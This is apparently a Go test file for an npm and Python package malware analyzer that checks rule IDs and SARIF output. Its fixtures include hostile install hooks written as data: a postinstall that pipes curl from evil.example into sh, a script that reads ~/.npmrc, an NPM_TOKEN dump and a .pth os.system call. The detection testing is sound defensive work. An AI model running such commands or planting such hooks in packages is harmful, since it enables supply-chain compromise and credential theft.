package analyze

import (
	"bytes"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// pkg writes a package directory from files (path → content).
func pkg(t *testing.T, files map[string]string) string {
	t.Helper()
	dir := t.TempDir()
	for p, body := range files {
		full := filepath.Join(dir, p)
		os.MkdirAll(filepath.Dir(full), 0o755)
		if err := os.WriteFile(full, []byte(body), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return dir
}

func manifestWith(extra string) string {
	return `{"name":"victim","version":"1.0.0"` + extra + `}`
}

var elfHeader = "\x7fELF\x02\x01\x01" + strings.Repeat("\x00", 57)

func peFile() string {
	b := make([]byte, 0x80)
	copy(b, "MZ")
	b[0x3c] = 0x40
	copy(b[0x40:], "PE\x00\x00")
	return string(b)
}

func rules(fs []Finding) string {
	var ids []string
	for _, f := range fs {
		ids = append(ids, f.Rule)
	}
	return strings.Join(ids, " ")
}

func TestNpmAnalyzers(t *testing.T) {
	obfuscated := strings.Repeat("var _0x1a2b3c=_0x4d5e6f['push'](_0x7a8b9c);\n", 30)
	cases := []struct {
		name  string
		files map[string]string
		want  string // rule ids in order
	}{
		{"clean", map[string]string{"package.json": manifestWith(`,"scripts":{"test":"curl http://x | sh"}`), "index.js": "module.exports = 1"}, ""},
		{"curl pipe sh", map[string]string{"package.json": manifestWith(`,"scripts":{"postinstall":"curl -s https://evil.example/x | sh"}`)}, "AL001"},
		{"node -e", map[string]string{"package.json": manifestWith(`,"scripts":{"preinstall":"node -e \"require('child_process').exec(process.argv)\""}`)}, "AL001"},
		{"core-js style postinstall", map[string]string{"package.json": manifestWith(`,"scripts":{"postinstall":"node -e \"try{require('./postinstall')}catch(e){}\""}`), "postinstall.js": "console.log('thanks')"}, "AL001"},
		{"obfuscated hook", map[string]string{"package.json": manifestWith(`,"scripts":{"postinstall":"node ./scripts/setup.js"}`), "scripts/setup.js": obfuscated}, "AL002"},
		{"eval of base64", map[string]string{"package.json": manifestWith(`,"scripts":{"install":"node install.js"}`), "install.js": "const p = 1;\neval(atob('Y29uc29sZS5sb2coMSk='))\n"}, "AL002"},
		{"hex escapes", map[string]string{"package.json": manifestWith(`,"scripts":{"install":"node install.js"}`), "install.js": strings.Repeat(`"\x68\x65\x6c\x6c\x6f"+`, 200)}, "AL002"},
		{"reads npmrc", map[string]string{"package.json": manifestWith(`,"scripts":{"postinstall":"node steal.js"}`), "steal.js": "const fs=require('fs');\nconst t=fs.readFileSync(require('os').homedir()+'/.npmrc');\n"}, "AL003"},
		{"token in script", map[string]string{"package.json": manifestWith(`,"scripts":{"postinstall":"echo $NPM_TOKEN > /tmp/x"}`)}, "AL003"},
		{"ELF in pure JS", map[string]string{"package.json": manifestWith(""), "lib/helper": elfHeader}, "AL004"},
		{"PE in pure JS", map[string]string{"package.json": manifestWith(""), "bin/tool.exe": peFile()}, "AL004"},
		{"MZ text is not PE", map[string]string{"package.json": manifestWith(""), "README": "MZ is a great band" + strings.Repeat(" ", 100)}, ""},
		{"ELF in native package", map[string]string{"package.json": manifestWith(`,"os":["linux"],"cpu":["x64"]`), "bin/esbuild": elfHeader}, "AL005"},
		{"ELF next to an addon", map[string]string{"package.json": manifestWith(""), "prebuilds/linux-x64/addon.node": elfHeader}, "AL005"},
		{"name mismatch", map[string]string{"package.json": `{"name":"other","version":"1.0.0"}`}, "AL006"},
		{"version mismatch", map[string]string{"package.json": `{"name":"victim","version":"6.6.6"}`}, "AL006"},
		{"hook outside the package is not read", map[string]string{"package.json": manifestWith(`,"scripts":{"postinstall":"node ../../evil.js"}`)}, ""},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			fs, err := Npm(Input{Dir: pkg(t, c.files), Name: "victim", Version: "1.0.0", InstallPath: "node_modules/victim"})
			if err != nil {
				t.Fatal(err)
			}
			if c.name == "core-js style postinstall" && fs[0].Severity != Warning {
				t.Errorf("inline node -e is a warning, got %v", fs[0].Severity)
			}
			if got := rules(fs); got != c.want {
				t.Fatalf("rules = %q, want %q: %v", got, c.want, fs)
			}
			for _, f := range fs {
				if f.Message == "" || f.Package != "victim" || !strings.HasPrefix(f.Location(), "node_modules/victim/") {
					t.Errorf("incomplete finding %+v", f)
				}
			}
		})
	}
}

func TestSymlinksNotFollowed(t *testing.T) {
	outside := pkg(t, map[string]string{"secret.js": "eval(atob('x'))"})
	dir := pkg(t, map[string]string{"package.json": manifestWith(`,"scripts":{"postinstall":"node hook.js"}`)})
	os.Symlink(filepath.Join(outside, "secret.js"), filepath.Join(dir, "hook.js"))
	os.Symlink("/bin/true", filepath.Join(dir, "true"))
	fs, err := Npm(Input{Dir: dir, Name: "victim", Version: "1.0.0"})
	if err != nil {
		t.Fatal(err)
	}
	if len(fs) != 0 {
		t.Fatalf("followed a symlink: %v", fs)
	}
}

func TestPth(t *testing.T) {
	in := Input{Name: "evil", Version: "1.0"}
	if f := Pth(in, "evil.pth", []byte("# comment\nimport os; os.system('id')\n")); len(f) != 1 || f[0].Severity != Warning || f[0].Line != 2 {
		t.Errorf("import line: %+v", f)
	}
	if f := Pth(in, "paths.pth", []byte("lib/extra\n")); len(f) != 1 || f[0].Severity != Note {
		t.Errorf("path line: %+v", f)
	}
}

func TestSARIF(t *testing.T) {
	fs, _ := Npm(Input{Dir: pkg(t, map[string]string{
		"package.json": manifestWith(`,"scripts":{"postinstall":"node install.js"}`),
		"install.js":   "\n\neval(atob('eA=='))",
		"bin/x":        elfHeader,
	}), Name: "victim", Version: "1.0.0", InstallPath: "node_modules/victim"})
	var buf bytes.Buffer
	if err := WriteSARIF(&buf, fs, "1.2.3"); err != nil {
		t.Fatal(err)
	}
	var log struct {
		Schema  string `json:"$schema"`
		Version string `json:"version"`
		Runs    []struct {
			Tool struct {
				Driver struct {
					Name  string `json:"name"`
					Rules []struct {
						ID                   string            `json:"id"`
						ShortDescription     map[string]string `json:"shortDescription"`
						DefaultConfiguration map[string]string `json:"defaultConfiguration"`
					} `json:"rules"`
				} `json:"driver"`
			} `json:"tool"`
			Results []struct {
				RuleID    string            `json:"ruleId"`
				RuleIndex int               `json:"ruleIndex"`
				Level     string            `json:"level"`
				Message   map[string]string `json:"message"`
				Locations []struct {
					PhysicalLocation struct {
						ArtifactLocation struct {
							URI       string `json:"uri"`
							URIBaseID string `json:"uriBaseId"`
						} `json:"artifactLocation"`
						Region *struct {
							StartLine int `json:"startLine"`
						} `json:"region"`
					} `json:"physicalLocation"`
				} `json:"locations"`
			} `json:"results"`
		} `json:"runs"`
	}
	if err := json.Unmarshal(buf.Bytes(), &log); err != nil {
		t.Fatal(err)
	}
	if log.Version != "2.1.0" || log.Schema != SARIFSchema || len(log.Runs) != 1 || log.Runs[0].Tool.Driver.Name != "airlock" {
		t.Fatalf("header: %s", buf.String())
	}
	run := log.Runs[0]
	if len(run.Results) != 2 {
		t.Fatalf("results: %s", buf.String())
	}
	for _, r := range run.Results {
		rule := run.Tool.Driver.Rules[r.RuleIndex]
		if rule.ID != r.RuleID || rule.ShortDescription["text"] == "" || rule.DefaultConfiguration["level"] == "" {
			t.Errorf("result %s points at rule %+v", r.RuleID, rule)
		}
		loc := r.Locations[0].PhysicalLocation
		if !strings.HasPrefix(loc.ArtifactLocation.URI, "node_modules/victim/") || loc.ArtifactLocation.URIBaseID != "%SRCROOT%" || r.Message["text"] == "" {
			t.Errorf("result %+v", r)
		}
		if r.RuleID == "AL002" && (loc.Region == nil || loc.Region.StartLine != 3) {
			t.Errorf("AL002 region = %+v, want line 3", loc.Region)
		}
	}
}

// TestRealTreeFalsePositives runs the analyzers over a real node_modules
// when AIRLOCK_ANALYZE_TREE names one (not in make test: it needs a tree
// installed from the registry). No error-level finding is expected.
func TestRealTreeFalsePositives(t *testing.T) {
	tree := os.Getenv("AIRLOCK_ANALYZE_TREE")
	if tree == "" {
		t.Skip("set AIRLOCK_ANALYZE_TREE to a node_modules directory")
	}
	var dirs []string
	filepath.WalkDir(tree, func(p string, d os.DirEntry, err error) error {
		if err == nil && d.Name() == "package.json" {
			dirs = append(dirs, filepath.Dir(p))
		}
		return nil
	})
	for _, dir := range dirs {
		var m manifest
		b, _ := os.ReadFile(filepath.Join(dir, "package.json"))
		if json.Unmarshal(b, &m) != nil || m.Name == "" {
			continue
		}
		fs, err := Npm(Input{Dir: dir, Name: m.Name, Version: m.Version})
		if err != nil {
			t.Error(err)
		}
		for _, f := range fs {
			t.Log(f)
		}
	}
}
